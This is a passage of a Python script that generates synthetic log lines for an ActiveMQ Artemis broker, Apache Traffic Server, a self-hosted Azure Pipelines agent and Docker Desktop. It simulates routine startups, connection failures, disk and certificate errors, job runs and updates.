        ar("INFO", S, f"AMQ221027: Bridge ClusterConnectionBridge@{g.hx(8)} [name=$.artemis.internal.sf.my-cluster.{g.uuid()}, queue=QueueImpl[name=$.artemis.internal.sf.my-cluster.{g.uuid()}, "
                      f"postOffice=PostOfficeImpl [server=ActiveMQServerImpl::name=artemis-1], temp=false]@{g.hx(8)} targetConnector=ServerLocatorImpl (identity=(Cluster-connection-bridge::"
                      f"ClusterConnectionBridge@{g.hx(8)}) [initialConnectors=[TransportConfiguration(name=artemis, factory=org-apache-activemq-artemis-core-remoting-impl-netty-NettyConnectorFactory) "
                      f"?port=61616&host=artemis-2], discoveryGroupConfiguration=null]] is connected", "bridge_connected")
        st["peer_down"] = False

    def handshake():
        ar("ERROR", S, f"AMQ224088: Timeout (10 seconds) on acceptor \"artemis\" during protocol handshake with /{g.c(['10.42.0.1', '10.42.0.1', '10.42.1.1'])}:{g.port()} has occurred.", "handshake_timeout")

    def client_drop():
        sess = g.uuid()
        ip = g.c(CLIENTS)
        if g.r.random() < 0.5:
            ar("WARN", S, f"AMQ222067: Connection failure has been detected: AMQ229014: Did not receive data from /{ip}:{g.port()} within the 60000ms connection TTL. The connection will now be closed. "
                          f"[code=CONNECTION_TIMEDOUT]", "connection_ttl")
        ar("WARN", S, f"AMQ222061: Client connection failed, clearing up resources for session {sess}", "client_connection_failed")
        ar("WARN", S, f"AMQ222107: Cleared up resources for session {sess}", "cleared_resources")

    def paging():
        ad = g.c(ADDRS[:4] + ["telemetry.scanners"] * 3)
        size = 10485760
        ar("INFO", S, f"AMQ222038: Starting paging on address '{ad}'; size={size + g.num(1, 50000)} bytes ({g.num(900, 9000)} messages); maxSize={size} bytes (-1 messages); "
                      f"globalSize={g.num(10 ** 8, 10 ** 9)} bytes ({g.num(10000, 900000)} messages); globalMaxSize=1073741824 bytes (-1 messages);", "starting_paging")

    def blocking():
        ad = g.c(ADDRS)
        pct = g.f(90.1, 97, 1)
        ar("WARN", S, f"AMQ222210: Free storage space is at {g.f(1.5, 5, 1)}GB of 50.0GB total. Usage rate is {pct}% which is beyond the configured <max-disk-usage>. "
                      "System will start blocking producers.", "disk_usage_beyond")
        ar("WARN", S, f"AMQ222212: Disk Full! Blocking message production on address '{ad}'. Clients will report blocked.", "disk_full_blocking")
        L.t += dt.timedelta(seconds=g.num(30, 900))
        ar("INFO", S, f"AMQ221046: Unblocking message production on address '{ad}'; size=0 bytes (0 messages); maxSize=-1 bytes (-1 messages); globalSize={g.num(10 ** 6, 10 ** 8)} bytes "
                      f"({g.num(100, 90000)} messages); globalMaxSize=1073741824 bytes (-1 messages);", "unblocking_production")

    def dlq():
        ad = g.c(ADDRS[:5])
        mid = g.num(10 ** 8, 10 ** 10)
        ar("WARN", S, f"AMQ222149: Message Reference[{mid}]:RELIABLE:CoreMessage[messageID={mid}, durable=true, userID={g.uuid()}, priority=4, timestamp={L.t:%a %b %d %H:%M:%S} UTC {L.t.year}, "
                      f"expiration=0, durable=true, address={ad}, size={g.num(400, 9000)}, properties=TypedProperties[_AMQ_ROUTING_TYPE=1]]@{g.num(10 ** 8, 2 * 10 ** 9)} has reached maximum "
                      f"delivery attempts, sending it to Dead Letter Address DLQ from {ad}", "sent_to_dlq")

    def consumer_fail():
        ad = g.c(ADDRS[:3])
        ar("WARN", S, f"AMQ222151: removing consumer which did not handle a message, consumer=ServerConsumerImpl [id=0, filter=null, binding=LocalQueueBinding [address={ad}, queue=QueueImpl[name={ad}, "
                      f"postOffice=PostOfficeImpl [server=ActiveMQServerImpl::name=artemis-1], temp=false]@{g.hx(8)}, filter=null, name={ad}, clusterName={ad}{st['node']}]], "
                      f"message=Reference[{g.num(10 ** 8, 10 ** 10)}]:RELIABLE:AMQPStandardMessage( [durable=true, messageID={g.num(10 ** 8, 10 ** 10)}, address={ad}, size={g.num(300, 4000)}, "
                      f"scanCount=0, applicationProperties={{}}, messageAnnotations={{}}, properties=Properties{{messageId=ID:{g.uuid()}:1:1:1-1}}, extraProperties = TypedProperties[]]",
           "removing_consumer", [("java.lang.IllegalStateException: AMQ229027: Could not find reference on consumer ID=0, messageId = " + str(g.num(10 ** 8, 10 ** 10)) + " queue = " + ad, "exception_line")] +
           [(x, "java_frame") for x in java_frames(g, [("org.apache.activemq.artemis.core.server.impl.ServerConsumerImpl.individualAcknowledge", "ServerConsumerImpl.java"),
                                                       ("org.apache.activemq.artemis.core.server.impl.ServerSessionImpl.individualAcknowledge", "ServerSessionImpl.java"),
                                                       ("org.apache.activemq.artemis.protocol.amqp.broker.AMQPSessionCallback.lambda$ack$1", "AMQPSessionCallback.java"),
                                                       ("org.apache.activemq.artemis.utils.actors.OrderedExecutor.doTask", "OrderedExecutor.java"),
                                                       ("org.apache.activemq.artemis.utils.actors.ProcessorBase.executePendingTasks", "ProcessorBase.java"),
                                                       ("java.base/java.util.concurrent.ThreadPoolExecutor.runWorker", "ThreadPoolExecutor.java"),
                                                       ("java.base/java.util.concurrent.ThreadPoolExecutor$Worker.run", "ThreadPoolExecutor.java"),
                                                       ("org.apache.activemq.artemis.utils.ActiveMQThreadFactory$1.run", "ActiveMQThreadFactory.java")])])

    def busy():
        ad = g.c(ADDRS[:3])
        ar("WARN", S, f"AMQ222172: Queue {ad} was busy for more than 10,000 milliseconds. There are possibly consumers hanging on a network operation", "queue_busy")

    def peer():
        if st["peer_down"]:
            return bridge_up()
        ar("WARN", "org.apache.activemq.artemis.core.client", "AMQ212037: Connection failure to artemis-2/10.42.3.12:61616 has been detected: AMQ219015: The connection was disconnected because of "
                                                              "server shutdown [code=DISCONNECTED]", "client_connection_failure")
        ar("WARN", S, f"AMQ224091: Bridge ClusterConnectionBridge@{g.hx(8)} [name=$.artemis.internal.sf.my-cluster.{g.uuid()}, queue=QueueImpl[name=$.artemis.internal.sf.my-cluster.{g.uuid()}]] "
                      "is unable to connect to destination. Retrying", "bridge_unable")
        st["peer_down"] = True

    def mqtt():
        cid = g.c(["scanner-", "dock-door-", "forklift-"]) + str(g.num(1, 80))
        ar("WARN", "org.apache.activemq.artemis.core.protocol.mqtt", f"AMQ834004: Connection failed because of invalid client ID {cid} (duplicate); existing connection replaced", "mqtt_duplicate_client") \
            if g.r.random() < 0.4 else \
            ar("WARN", "org.apache.activemq.artemis.core.protocol.mqtt", f"AMQ834005: Failed to cast property FLOW_CONTROL for client {cid}", "mqtt_cast_failed")

    def restart():
        up = L.t - st["started"]
        ar("INFO", S, f"AMQ221002: Apache ActiveMQ Artemis Message Broker version 2.37.0 [{st['node']}] stopped, uptime {up.days} days {up.seconds // 3600} hours", "broker_stopped")
        L.t += dt.timedelta(seconds=g.num(5, 40))
        startup()

    create()
    startup()
    ev = [(30, handshake), (14, client_drop), (6, paging), (2, blocking), (6, dlq), (1.5, consumer_fail), (3, busy), (1.5, peer), (4, mqtt), (0.25, restart)]
    return next_times(L.run(slowed(L, ev, 40), None))


# 8 ---------------------------------------------------------------- Apache Traffic Server 9.2.5 as the reverse-proxy cache of a news site (three origins, TLS at the edge),
#   /var/log/trafficserver/diags.log: "[Dec  1 10:00:00.123] [ET_NET 3] WARNING: message" (month and day, milliseconds, the thread in brackets, or
#   "traffic_server" without brackets before the threads start); start-up with plugins and configs, origins refusing connections, certificate
#   failures, HTTP/2 session errors, a failing Lua plugin, config reloads, rolled logs deleted, a cache disk declared bad, restarts
@checked
def log_ats(seed):
    L = Log("trafficserver_diags", seed, "noyear", True, False)
    g = L.g
    ORIGINS = [("origin-www.news.internal", "10.30.1.10", 8080), ("origin-img.news.internal", "10.30.1.20", 8080), ("api.news.internal", "10.30.2.15", 443)]
    PATHS = ["/", "/politics/", "/sport/live", "/api/v1/articles?limit=20", "/api/v1/breaking", "/img/2026/12/01/" + "cover.jpg", "/static/app.js", "/world/europe/"]

    def ts(th, lv, msg, ev):
        L.t += ms(g, 0, 60)
        who = th if th == "traffic_server" else f"[{th}]"
        L.emit(f"[{L.t:%b} {L.t.day:>2} {L.t:%H:%M:%S}.{ms3(L.t)}] {who} {lv}: {msg}", ev, lv)

    def net():
        return f"ET_NET {g.num(0, 7)}"

    def startup():
        T = "traffic_server"
        ts(T, "STATUS", "opened /var/log/trafficserver/diags.log", "opened_diags")
        ts(T, "NOTE", "updated diags config", "updated_diags")
        ts(T, "NOTE", "--- traffic_server Starting ---", "starting")
        ts(T, "NOTE", "traffic_server Version: Apache Traffic Server - traffic_server - 9.2.5 - (build # 082715 on Aug 27 2026 at 15:22:41)", "version")
        ts(T, "NOTE", "RLIMIT_NOFILE(7):cur(1048576),max(1048576)", "rlimit")
        for p in ["header_rewrite.so", "regex_remap.so", "tslua.so", "cache_promote.so", "stats_over_http.so"]:
            ts(T, "NOTE", f"loading plugin '/usr/lib/trafficserver/modules/{p}'", "loading_plugin")
        ts(T, "NOTE", "ts_session_protocol_well_known_name_indices_init", "protocol_indices")
        L.t += ms(g, 100, 1500)
        for f in ["remap.config", "ip_allow.yaml", "parent.config", "ssl_multicert.config", "sni.yaml"]:
            ts(g.c(["ET_TASK 0", "ET_TASK 1"]) if f != "ssl_multicert.config" else net(), "NOTE", f"/etc/trafficserver/{f} finished loading", "config_loaded")
        ts(T, "NOTE", "cache enabled", "cache_enabled")
        ts(T, "NOTE", "traffic server running", "running")

    def connect_fail():
        host, ip, port = g.c(ORIGINS)
        path = g.c(PATHS)
        ts(net(), "WARNING", f"CONNECT: could not connect to {ip}:{port} for '{'https' if port == 443 else 'http'}://{host}{path}' (setting last failure time) connect_result={g.c([111, 111, 110, 113])}",
           "could_not_connect")
        if g.r.random() < 0.25:
            ts(net(), "NOTE", f"CONNECT: {ip}:{port} marking down, connect failures {g.num(10, 30)} exceeds threshold 10", "marking_down")

    def cert_fail():
        host, ip, port = ORIGINS[2]
        if g.r.random() < 0.5:
            ts(net(), "WARNING", f"Core server certificate verification failed for ({host}). Action=Enforce Error=unable to get local issuer certificate server={host}({ip}) depth=1", "cert_verify_failed")
        ts(net(), "ERROR", f"SSL connection failed for '{host}': error:0A000086:SSL routines::certificate verify failed", "ssl_connection_failed")

    def h2():
        ts(net(), "WARNING", f"HTTP/2 session error client_ip={g.ip('pub')} session_id={g.num(10 ** 5, 10 ** 7)} closing a connection, because its stream error rate ({g.r.uniform(0.11, 0.9):.6f}) "
                             "exceeded the threshold (0.100000)", "h2_stream_error_rate")

    def lua():
        ts(net(), "ERROR", f"[ts_lua][ts_lua_http_intercept_process] lua_pcall failed: /etc/trafficserver/lua/paywall.lua:{g.c([42, 42, 57])}: attempt to index a nil value (local 'cookie')",
           "lua_pcall_failed")

    def reload():
        ts("ET_TASK 0", "NOTE", "/etc/trafficserver/remap.config finished loading", "config_loaded")
        if g.r.random() < 0.3:
            ts("ET_TASK 0", "WARNING", f"/etc/trafficserver/remap.config:{g.num(20, 90)}: map rule for 'http://{g.c(['m', 'beta', 'old'])}.news.example/' uses an origin that does not resolve",
               "remap_warning")

    def rolled():
        kind = g.c(["squid.log", "error.log", "diags.log"])
        t0 = L.t - dt.timedelta(days=g.num(3, 6))
        ts("LOG_FLUSH", "NOTE", f"The rolled logfile, /var/log/trafficserver/{kind}_edge01.{t0:%Y%m%d.%Hh%Mm%Ss}-{t0 + dt.timedelta(hours=1):%Y%m%d.%Hh%Mm%Ss}.old, was auto-deleted; "
                                f"{g.num(10 ** 6, 10 ** 9)} bytes were reclaimed.", "rolled_deleted")

    def disk():
        d = g.c(["/dev/sdc", "/dev/sdd"])
        for k in range(1, 6):
            ts("ET_AIO 1", "WARNING", f"cache disk operation failed READ -1 5", "cache_op_failed")
            ts("ET_AIO 1", "WARNING", f"Error accessing Disk {d} [{k}/5]", "error_accessing_disk")
            L.t += ms(g, 100, 9000)
        ts("ET_AIO 1", "WARNING", f"too many errors accessing disk {d} [5/5]: declaring disk bad", "disk_bad")
        ts("ET_TASK 0", "NOTE", f"Cache: {d} marked offline, {g.num(10, 60)} GB lost", "cache_offline")

    def origin_timeout():
        host, ip, port = g.c(ORIGINS[:2])
        ts(net(), "WARNING", f"[{g.num(10 ** 6, 10 ** 8)}] Inactivity timeout reached after 30 seconds waiting for origin {host}({ip}:{port})", "inactivity_timeout")

    def restart():
        ts("TS_MAIN", "NOTE", "Received Signal 15: Terminated", "signal")
        ts("TS_MAIN", "NOTE", "traffic_server shutting down", "shutting_down")
        L.t += dt.timedelta(seconds=g.num(3, 30))
        startup()

    startup()
    ev = [(30, connect_fail), (10, cert_fail), (14, h2), (5, lua), (4, reload), (9, rolled), (0.2, disk), (10, origin_timeout), (0.5, restart)]
    return L.run(slowed(L, ev, 45), None)


# 9 ---------------------------------------------------------------- Azure Pipelines agent 3.248 (self-hosted, a Linux build VM of an Azure DevOps organisation), the listener's
#   diagnostic logs `cat _diag/Agent_2026120*.log`: "[yyyy-mm-dd hh:mm:ssZ LEVL Source] message" (INFO, WARN, "ERR " padded, VERB); start-up, the
#   session, every job with the ProcessInvokerWrapper's indented settings and the job-request renewals each minute, "WRITE LINE:" echoes of the
#   console, lost connections with the whole .NET exception after one header, a self-update
@checked
def log_azure_agent(seed):
    L = Log("azure_pipelines_agent_diag", seed, "full", True, True)
    g = L.g
    st = {"ver": "3.246.0", "msg": g.num(100, 900), "req": g.num(80000, 90000), "session": g.uuid(), "online": True}
    JOBS = ["Build linux", "Unit tests", "Integration tests", "Publish artifacts", "Deploy to staging", "Lint", "Build docker image", "Terraform plan"]

    def a(lv, src, msg, ev, cont=()):
        L.emit(f"[{L.t:%Y-%m-%d %H:%M:%S}Z {lv:<4} {src}] {msg}", ev, lv.strip(), src)
        for text, cev in cont:
            L.emit(text, cev, lv.strip(), src)

    def w(msg, ev):
        """Terminal.WriteLine traces what it prints: the event is the printed line's format."""
        a("INFO", "Terminal", f"WRITE LINE: {msg}", ev)

    def startup():
        a("INFO", "HostContext", "No proxy setting found.", "no_proxy")
        a("INFO", "HostContext", "No client certificate setting found.", "no_client_cert")
        a("INFO", "HostContext", "Well known directory 'Bin': '/opt/azagent/bin'", "well_known_dir")
        a("INFO", "HostContext", "Well known directory 'Root': '/opt/azagent'", "well_known_dir")
        a("INFO", "AgentProcess", "Agent package linux-x64.", "agent_package")
        a("INFO", "AgentProcess", "Running on Linux (X64).", "running_on")
        a("INFO", "AgentProcess", "RuntimeInformation: Ubuntu 22.04.5 LTS.", "runtime_info")
        a("INFO", "AgentProcess", f"Version: {st['ver']}", "version")
        a("INFO", "AgentProcess", f"Commit: {g.hx(40)}", "commit")
        a("INFO", "AgentProcess", "Culture: ", "culture")
        a("INFO", "AgentProcess", "UI Culture: ", "ui_culture")
        a("INFO", "AgentProcess", "Validating directory permissions for: '/opt/azagent'", "validating_permissions")
        a("INFO", "HostContext", "Loading 'Microsoft.VisualStudio.Services.Agent.Listener.Agent, Agent.Listener' for 'Microsoft.VisualStudio.Services.Agent.Listener.IAgent'.", "loading_type")
        a("INFO", "Agent", "ExecuteCommand", "execute_command")
        a("INFO", "ConfigurationStore", "IsConfigured()", "is_configured")
        a("INFO", "ConfigurationStore", "IsConfigured: True", "is_configured_result")
        a("INFO", "ConfigurationStore", "HasCredentials()", "has_credentials")
        a("INFO", "ConfigurationStore", "stored True", "stored")
        a("INFO", "Agent", "Set agent startup type - Service", "startup_type")
        w("Scanning for tool capabilities.", "write_scanning")
        L.t += ms(g, 500, 3000)
        w("Connecting to the server.", "write_connecting")
        a("INFO", "MessageListener", "Loading Credentials", "loading_credentials")
        a("INFO", "CredentialManager", "GetCredentialProvider", "get_credential_provider")
        a("INFO", "CredentialManager", "Creating type OAuth", "creating_type")
        a("INFO", "VisualStudioServices", "AAD Correlation ID for this token request: Unknown", "aad_correlation")
        a("INFO", "AgentServer", "Establish connection with 100 seconds timeout.", "establish_connection")
        a("INFO", "VisualStudioServices", "Starting operation Location.GetConnectionData", "starting_operation")
        L.t += ms(g, 100, 900)
        a("INFO", "VisualStudioServices", "Finished operation Location.GetConnectionData", "finished_operation")
        a("INFO", "MessageListener", "Connect to server", "connect_to_server")
        st["session"] = g.uuid()
        a("INFO", "MessageListener", "Session created.", "session_created")
        w(f"{L.t:%Y-%m-%d %H:%M:%S}Z: Listening for Jobs", "write_listening")
        a("INFO", "JobDispatcher", "Set agent/worker IPC timeout to 30 seconds.", "ipc_timeout")

    def message():
        st["msg"] += 1
        a("INFO", "MessageListener", f"Message '{st['msg']}' received from session '{st['session']}'.", "message_received")

    def renew(req, job):
        L.t += dt.timedelta(seconds=60, milliseconds=g.num(0, 300))
        a("INFO", "JobDispatcher", f"Successfully renew job request {req}, job is valid till {L.t + dt.timedelta(minutes=10):%m/%d/%Y %H:%M:%S}", "renew_ok")

    def job():
        if not st["online"]:
            return reconnect()
        message()
        st["req"] += g.num(1, 30)
        req, plan, jid = st["req"], g.uuid(), g.uuid()
        name = g.c(JOBS)
        a("INFO", "Agent", f"Received job message of length {g.num(20000, 90000)} from service, with hash '{g.hx(64)}'", "received_job_message")
        a("INFO", "JobDispatcher", f"Job request {req} for plan {plan} job {jid} received.", "job_request_received")
        a("INFO", "JobDispatcher", f"Pull OrchestrationId {plan}.{g.c(['build', 'test', 'deploy'])}.__default from JobRequestMessage", "pull_orchestration")
        a("INFO", "JobDispatcher", f"Start renew job request {req} for job {jid}.", "start_renew")
        L.t += ms(g, 100, 900)
        a("INFO", "JobDispatcher", f"Successfully renew job request {req}, job is valid till {L.t + dt.timedelta(minutes=10):%m/%d/%Y %H:%M:%S}", "renew_ok")
        a("INFO", "JobDispatcher", f"Start process job request {req} for job {jid}.", "start_process_job")
        w(f"{L.t:%Y-%m-%d %H:%M:%S}Z: Running job: {name}", "write_running_job")
        a("INFO", "JobDispatcher", f"Starting process to run job: {jid}", "starting_process_for_job")
        a("INFO", "ProcessInvokerWrapper", "Starting process:", "starting_process", [
            (f"[{L.t:%Y-%m-%d %H:%M:%S}Z INFO ProcessInvokerWrapper]   File name: '/opt/azagent/bin/Agent.Worker'", "piw_file_name"),
            (f"[{L.t:%Y-%m-%d %H:%M:%S}Z INFO ProcessInvokerWrapper]   Arguments: 'spawnclient {g.num(100, 200)} {g.num(100, 200)}'", "piw_arguments"),
            (f"[{L.t:%Y-%m-%d %H:%M:%S}Z INFO ProcessInvokerWrapper]   Working directory: '/opt/azagent/bin'", "piw_working_dir"),
            (f"[{L.t:%Y-%m-%d %H:%M:%S}Z INFO ProcessInvokerWrapper]   Require exit code zero: 'False'", "piw_require_zero"),
            (f"[{L.t:%Y-%m-%d %H:%M:%S}Z INFO ProcessInvokerWrapper]   Encoding web name:  ; code page: ''", "piw_encoding"),
            (f"[{L.t:%Y-%m-%d %H:%M:%S}Z INFO ProcessInvokerWrapper]   Force kill process on cancellation: 'True'", "piw_force_kill"),
            (f"[{L.t:%Y-%m-%d %H:%M:%S}Z INFO ProcessInvokerWrapper]   Redirected STDIN: 'False'", "piw_redirected_stdin"),
            (f"[{L.t:%Y-%m-%d %H:%M:%S}Z INFO ProcessInvokerWrapper]   Persist current code page: 'False'", "piw_persist_codepage"),
            (f"[{L.t:%Y-%m-%d %H:%M:%S}Z INFO ProcessInvokerWrapper]   Keep redirected STDIN open: 'False'", "piw_keep_stdin"),
            (f"[{L.t:%Y-%m-%d %H:%M:%S}Z INFO ProcessInvokerWrapper]   High priority process: 'False'", "piw_high_priority")])
        pid = g.num(10000, 90000)
        a("INFO", "ProcessInvokerWrapper", f"Process started with process id {pid}, waiting for process exit.", "process_started")
        a("INFO", "JobDispatcher", f"Send job request message to worker for job {jid}.", "send_to_worker")
        mins = g.c([1, 2, 3, 4, 6, 9, 14, 22])
        t0 = L.t
        for _ in range(mins):
            renew(req, jid)
        L.t += dt.timedelta(seconds=g.num(0, 59))
        res = g.c([("Succeeded", 100)] * 8 + [("SucceededWithIssues", 101), ("Failed", 102), ("Failed", 102), ("Canceled", 103)])
        if res[0] == "Canceled":
            message()
            a("INFO", "JobDispatcher", f"Cancel job request {req} for job {jid}.", "cancel_job")
        el = L.t - t0
        a("INFO", "ProcessInvokerWrapper", f"Finished process {pid} with exit code {res[1]}, and elapsed time {el.seconds // 3600:02d}:{el.seconds % 3600 // 60:02d}:{el.seconds % 60:02d}.{g.num(0, 9999999):07d}.",
          "process_finished")
        a("INFO", "JobDispatcher", f"Worker finished for job {jid}. Code: {res[1]}", "worker_finished")
        a("INFO", "JobDispatcher", f"finish job request for job {jid} with result: {res[0]}", "finish_job_request")
        w(f"{L.t:%Y-%m-%d %H:%M:%S}Z: Job {name} completed with result: {res[0]}", "write_job_completed")
        a("INFO", "JobDispatcher", f"Stop renew job request for job {jid}.", "stop_renew")
        a("INFO", "JobDispatcher", f"job renew has been cancelled, stop renew job request {req}.", "renew_cancelled")
        a("INFO", "JobNotification", "Entering JobCompleted Notification", "job_completed_notification")
        a("INFO", "JobNotification", "Entering EndMonitor", "end_monitor")

    def offline():
        if not st["online"]:
            return reconnect()
        host = "dev.azure.com:443"
        what = g.c([("System.Net.Http.HttpRequestException", "Name or service not known", "System.Net.Sockets.SocketException (0xFFFDFFFE): Name or service not known"),
                    ("System.Net.Http.HttpRequestException", "Connection refused", "System.Net.Sockets.SocketException (111): Connection refused"),
                    ("System.Net.Http.HttpRequestException", "Resource temporarily unavailable", "System.Net.Sockets.SocketException (11): Resource temporarily unavailable")])
        a("ERR ", "MessageListener", "Catch exception during get next message.", "catch_exception")
        a("ERR ", "MessageListener", f"{what[0]}: {what[1]} ({host})", "exception_line", [
            (f" ---> {what[2]}", "inner_exception"),
            ("   at System.Net.Sockets.Socket.AwaitableSocketAsyncEventArgs.ThrowException(SocketError error, CancellationToken cancellationToken)", "dotnet_frame"),
            ("   at System.Net.Sockets.Socket.AwaitableSocketAsyncEventArgs.System.Threading.Tasks.Sources.IValueTaskSource.GetResult(Int16 token)", "dotnet_frame"),
            ("   at System.Net.Sockets.Socket.<ConnectAsync>g__WaitForConnectWithCancellation|285_0(AwaitableSocketAsyncEventArgs saea, ValueTask connectTask, CancellationToken cancellationToken)", "dotnet_frame"),
            ("   at System.Net.Http.HttpConnectionPool.ConnectToTcpHostAsync(String host, Int32 port, HttpRequestMessage initialRequest, Boolean async, CancellationToken cancellationToken)", "dotnet_frame"),
            ("   --- End of inner exception stack trace ---", "end_inner_exception"),
            ("   at System.Net.Http.HttpConnectionPool.ConnectToTcpHostAsync(String host, Int32 port, HttpRequestMessage initialRequest, Boolean async, CancellationToken cancellationToken)", "dotnet_frame"),
            ("   at System.Net.Http.HttpConnectionPool.ConnectAsync(HttpRequestMessage request, Boolean async, CancellationToken cancellationToken)", "dotnet_frame"),
            ("   at System.Net.Http.HttpConnectionPool.CreateHttp11ConnectionAsync(HttpRequestMessage request, Boolean async, CancellationToken cancellationToken)", "dotnet_frame"),
            ("   at Microsoft.VisualStudio.Services.Common.VssHttpRetryMessageHandler.SendAsync(HttpRequestMessage request, CancellationToken cancellationToken)", "dotnet_frame"),
            ("   at Microsoft.VisualStudio.Services.WebApi.VssHttpClientBase.SendAsync(HttpRequestMessage message, HttpCompletionOption completionOption, Object userState, CancellationToken cancellationToken)", "dotnet_frame"),
            ("   at Microsoft.VisualStudio.Services.Agent.Listener.MessageListener.GetNextMessageAsync(CancellationToken token) in /home/vsts/work/1/s/src/Agent.Listener/MessageListener.cs:line 250", "dotnet_frame")])
        a("INFO", "MessageListener", f"Retriable exception: {what[1]} ({host})", "retriable_exception")
        a("ERR ", "Terminal", f"WRITE ERROR: {L.t:%Y-%m-%d %H:%M:%S}Z: Agent connect error: {what[1]} ({host}). Retrying until reconnected.", "terminal_write_error")
        st["online"] = False
        for _ in range(g.num(1, 4)):
            b = g.r.uniform(15, 30)
            a("INFO", "MessageListener", f"Sleeping for {b:.3f} seconds before retrying.", "sleeping_before_retry")
            L.t += dt.timedelta(seconds=b)
            a("WARN", "MessageListener", f"Catch exception during get next message: {what[1]} ({host})", "catch_exception_short")

    def reconnect():
        w(f"{L.t:%Y-%m-%d %H:%M:%S}Z: Agent reconnected.", "write_reconnected")
        st["online"] = True

    def metadata():
        message()
        a("INFO", "JobDispatcher", f"Job metadata update received for job request {st['req']}.", "job_metadata") if g.r.random() < 0.5 else \
            a("VERB", "MessageListener", f"No message retrieved from session '{st['session']}' within last 30 minutes.", "no_message")

    def update():
        if not st["online"]:
            return reconnect()
        message()
        new = "3.248.0"
        a("INFO", "SelfUpdater", f"Version '{new}' of 'agent' package available in server.", "update_available")
        a("INFO", "SelfUpdater", f"Current running agent version is {st['ver']}", "current_version")
        w(f"{L.t:%Y-%m-%d %H:%M:%S}Z: Agent update in progress, do not shutdown agent.", "write_update_in_progress")
        w(f"Downloading {new} agent", "write_downloading")
        L.t += dt.timedelta(seconds=g.num(10, 60))
        a("INFO", "SelfUpdater", f"Download agent: finished download", "download_finished")
        w("Agent will exit shortly for update, should back online within 10 seconds.", "write_exit_for_update")
        st["ver"] = new
        L.t += dt.timedelta(seconds=g.num(8, 20))
        startup()

    startup()
    ev = [(30, job), (4, offline), (6, metadata), (0.5, update)]
    return L.run(slowed(L, ev, 600), None)


# 10 --------------------------------------------------------------- Docker Desktop 4.36 on a developer's Windows 11 laptop (WSL 2 backend), %LOCALAPPDATA%\Docker\log\host\com.docker.backend.exe.log:
#   "[yyyy-mm-ddThh:mm:ss.nnnnnnnnnZ][com.docker.backend.exe.component][L] message" with a one-letter level; the API proxy's ">>" and "<<" lines
#   for each Docker API call of the dashboard, the CLI and an IDE, the IPC lines between the UI and the backend, WSL distributions starting and
#   stopping, Resource Saver, update checks, a proxy change, the VM running out of disk, a restart of the engine and of the whole app
@checked
def log_docker_desktop(seed):
    L = Log("docker_desktop_backend", seed, "full", True, True)
    g = L.g
    B = "com.docker.backend.exe"
    IMAGES = ["postgres:16", "redis:7-alpine", "node:20-bookworm", "mcr.microsoft.com/dotnet/sdk:8.0", "shop-api:dev", "nginx:1.27", "localstack/localstack:3.8"]
    st = {"api": "1.47", "rs": False}

    def d(comp, lv, msg, ev):
        L.t += dt.timedelta(microseconds=g.num(0, 90000))
        L.emit(f"[{L.t:%Y-%m-%dT%H:%M:%S}.{L.t.microsecond:06d}{g.num(0, 9)}00Z][{B}{'.' + comp if comp else ''}][{lv}] {msg}", ev, lv, B + ("." + comp if comp else ""))

    def api():
        calls = [("GET", f"/v{st['api']}/containers/json?all=1"), ("GET", f"/v{st['api']}/images/json"), ("HEAD", "/_ping"), ("GET", "/_ping"),
                 ("GET", f"/v{st['api']}/containers/{g.hx(64)}/json"), ("GET", f"/v{st['api']}/volumes"), ("GET", f"/v{st['api']}/networks"),
                 ("POST", f"/v{st['api']}/containers/{g.hx(64)}/start"), ("POST", f"/v{st['api']}/containers/{g.hx(64)}/stop?t=10"),
                 ("GET", f"/v{st['api']}/containers/{g.hx(64)}/stats?stream=0"), ("GET", f"/v{st['api']}/system/df")]
        m, p = g.c(calls[:4] * 4 + calls[4:])
        d("apiproxy", "I", f"proxy >> {m} {p}", "proxy_request")
        L.t += dt.timedelta(microseconds=g.num(300, 90000))
        d("apiproxy", "I", f"proxy << {m} {p} ({g.r.uniform(0.3, 90):.4f}ms)", "proxy_response")

    def create():
        img = g.c(IMAGES)
        name = g.c(["shop-db-1", "shop-cache-1", "shop-api-1", "localstack", "devcontainer-" + g.hx(6)])
        d("apiproxy", "I", f"proxy >> POST /v{st['api']}/containers/create?name={name}", "proxy_request")
        L.t += ms(g, 20, 400)
        if g.r.random() < 0.85:
            d("apiproxy", "I", f"proxy << POST /v{st['api']}/containers/create?name={name} ({g.r.uniform(20, 400):.4f}ms)", "proxy_response")
        else:
            d("apiproxy", "W", f"proxy << POST /v{st['api']}/containers/create?name={name} ({g.r.uniform(2, 40):.4f}ms): Error response from daemon: Conflict. The container name \"/{name}\" is already "
                               f"in use by container \"{g.hx(64)}\". You have to remove (or rename) that container to be able to reuse that name.", "proxy_response_error")
        if g.r.random() < 0.3:
            d("apiproxy", "I", f"proxy >> POST /v{st['api']}/images/create?fromImage={img.split(':')[0]}&tag={img.split(':')[1]}", "proxy_request")
            L.t += dt.timedelta(seconds=g.num(3, 90))
            d("apiproxy", "I", f"proxy << POST /v{st['api']}/images/create?fromImage={img.split(':')[0]}&tag={img.split(':')[1]} ({g.r.uniform(3000, 90000):.4f}ms)", "proxy_response")

    def ipc():
        cid, sid = g.hx(8), g.hx(8)
        path = g.c(["/app/settings", "/engine/state", "/containers/list", "/notifications", "/diagnostics/status", "/extensions", "/usage/events"])
        meth = "POST" if path == "/usage/events" else "GET"
        d("ipc", "I", f"({cid}) {sid}-BackendAPI S<-C Docker-Desktop/4.36.0 (Windows) {meth} {path}", "ipc_request")
        d("ipc", "I", f"({cid}) {sid}-BackendAPI S->C Docker-Desktop/4.36.0 (Windows) {meth} {path} ({g.r.uniform(0.1, 40):.4f}ms)", "ipc_response")

    def wsl():
        distro = g.c(["Ubuntu-24.04", "docker-desktop"])
        if g.r.random() < 0.6:
            d("wsl2", "I", f"distro {distro} is running", "distro_running")
        else:
            d("wsl2", "W", f"wsl.exe --exec /bin/true failed for {distro}: exit status 0xffffffff: The Windows Subsystem for Linux instance has terminated.", "wsl_exec_failed")
            d("wsl2", "I", f"restarting distro {distro}", "restarting_distro")

    def saver():
        if not st["rs"]:
            d("resource-saver", "I", "no containers running for 5m0s, entering Resource Saver mode", "rs_entering")
            d("engines", "I", "pausing engine linux/wsl2", "pausing_engine")
        else:
            d("resource-saver", "I", f"exiting Resource Saver mode: {g.c(['docker CLI request', 'dashboard opened', 'container start'])}", "rs_exiting")
            d("engines", "I", "resuming engine linux/wsl2", "resuming_engine")
        st["rs"] = not st["rs"]

    def updates():
        d("desktop-updater", "I", "checking for updates", "checking_updates")
        if g.r.random() < 0.7:
            d("desktop-updater", "I", "no update available", "no_update")
        else:
            d("desktop-updater", "I", "update available: 4.37.0 (178610)", "update_available")

